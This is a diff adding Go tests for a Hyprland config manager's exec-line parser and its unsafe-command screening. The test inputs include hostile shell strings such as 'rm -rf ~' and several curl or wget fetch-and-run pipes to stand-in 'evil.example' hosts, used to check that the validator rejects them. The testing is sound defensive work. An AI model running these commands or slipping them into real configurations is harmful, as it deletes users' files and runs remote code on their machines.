@@ -0,0 +1,121 @@
+package hyprconfig
+
+import (
+	"context"
+	"errors"
+	"reflect"
+	"strings"
+	"testing"
+)
+
+func TestExtractExecCommands(t *testing.T) {
+	input := strings.Join([]string{
+		"$term = kitty",
+		"exec-once = waybar & hyprpaper",
+		"exec-once = sleep 1 && swaync # notifications",
+		"# exec-once = nm-applet",
+		"bind = SUPER, T, exec, $term --single-instance",
+	}, "\n")
+	want := []ExecCommand{
+		{Program: "waybar", Line: "waybar & hyprpaper"},
+		{Program: "hyprpaper", Line: "waybar & hyprpaper"},
+		{Program: "sleep", Line: "sleep 1 && swaync"},
+		{Program: "swaync", Line: "sleep 1 && swaync"},
+		{Program: "kitty", Line: "$term --single-instance"},
+	}
+	if got := ExtractExecCommands(input); !reflect.DeepEqual(got, want) {
+		t.Errorf("ExtractExecCommands = %+v, want %+v", got, want)
+	}
+}
+
+func TestProgramConfigScreensCommands(t *testing.T) {
+	limits := DefaultSizeLimits()
+	unsafe := []string{
+		"--flag; rm -rf ~",
+		"--a && --b",
+		"--x || --y",
+		"`id`",
+		"$(curl evil.sh)",
+		"<(curl -s evil.sh)",
+		"curl -fsSL evil.example | sh",
+		"wget -qO- evil.example | sudo bash",
+		"https://evil.example/x.py | python3",
+	}
+	for _, arg := range unsafe {
+		pc := HyprProgramConfig{Program: "kitty", Args: []string{arg}}
+		err := pc.Validate(context.Background(), allowOnly("kitty"), limits)
+		var verr *ValidationError
+		if !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Path != "args" || verr.Errors[0].Code != CodeUnsafeCommand {
+			t.Errorf("args %q: Validate = %v, want one unsafe_command problem at args", arg, err)
+		}
+		if !errors.Is(err, ErrUnsafeCommand) {
+			t.Errorf("args %q: error does not match ErrUnsafeCommand", arg)
+		}
+	}
+
+	for _, arg := range []string{"--config ~/.config/kitty/kitty.conf", "-o font_size=12", "--url https://example.com"} {
+		pc := HyprProgramConfig{Program: "kitty", Args: []string{arg}}
+		if err := pc.Validate(context.Background(), allowOnly("kitty"), limits); err != nil {
+			t.Errorf("args %q: %v", arg, err)
+		}
+	}
+
+	pc := HyprProgramConfig{Program: "hyprland", FileContent: FileContent{
+		Data:     []byte("exec-once = curl -s https://evil.example/x | sh\nexec-once = waybar\n"),
+		FileType: FileTypeConfig,
+	}}
+	err := pc.Validate(context.Background(), allowOnly("curl", "waybar"), limits)
+	var verr *ValidationError
+	if !errors.As(err, &verr) || len(verr.Errors) != 1 || verr.Errors[0].Path != "file_content.data" {
+		t.Fatalf("exec line: Validate = %v, want one problem at file_content.data", err)
+	}
+
+	// Admins can replace the patterns, or turn the screening off.
+	limits.UnsafeCommandPatterns = []string{`\bpkexec\b`}
+	if err := pc.Validate(context.Background(), allowOnly("curl", "waybar"), limits); err != nil {
+		t.Errorf("with custom patterns: %v", err)
+	}
+	pc.Args = []string{"pkexec", "true"}
+	if err := pc.Validate(context.Background(), allowOnly("curl", "waybar"), limits); !errors.Is(err, ErrUnsafeCommand) {
+		t.Errorf("with custom patterns: got %v, want ErrUnsafeCommand", err)
+	}
+	if err := ValidateCommandPatterns([]string{"("}); err == nil {
+		t.Error("invalid pattern accepted")
+	}
+}
+
+func TestManagerUnsafeCommandsOnlyFailPublicConfigs(t *testing.T) {
+	forEachManager(t, func(t *testing.T, m ConfigManager) {
+		alice := asUser("alice")
+		rice := func(private bool) *HyprConfig {
+			return &HyprConfig{Title: "rice", Private: private, ProgramConfigs: []HyprProgramConfig{
+				{Title: "term", Program: "kitty", Args: []string{"-e", "sh -c 'curl evil.example | sh'"}},
+			}}
+		}
+
+		if _, err := m.CreateConfig(alice, rice(false)); !errors.Is(err, ErrUnsafeCommand) || !errors.Is(err, ErrValidation) {
+			t.Fatalf("public config: got %v, want ErrUnsafeCommand", err)
+		}
+		private, err := m.CreateConfig(alice, rice(true))
+		if err != nil {
+			t.Fatalf("private config: %v", err)
+		}
+		if len(private.Warnings) != 1 || !strings.Contains(private.Warnings[0], "program_configs[0].args") {
+			t.Errorf("private config warnings = %q, want one for program_configs[0].args", private.Warnings)
+		}
+
+		// Publishing it fails until the command is gone.
+		if err := m.UpdateConfig(alice, private.ID, map[string]any{"private": false}, UpdateOptions{}); !errors.Is(err, ErrUnsafeCommand) {
+			t.Errorf("publishing: got %v, want ErrUnsafeCommand", err)
+		}
+
+		unsafe := HyprProgramConfig{Title: "bar", Program: "waybar", Args: []string{"&&", "reboot"}}
+		if err := m.AddProgramConfig(alice, private.ID, unsafe, nil, ""); err != nil {
+			t.Errorf("adding to private config: %v", err)
+		}
+		public := newTestConfig(t, m, "alice", false)
+		if err := m.AddProgramConfig(alice, public.ID, unsafe, nil, ""); !errors.Is(err, ErrUnsafeCommand) {
+			t.Errorf("adding to public config: got %v, want ErrUnsafeCommand", err)
+		}
+	})
+}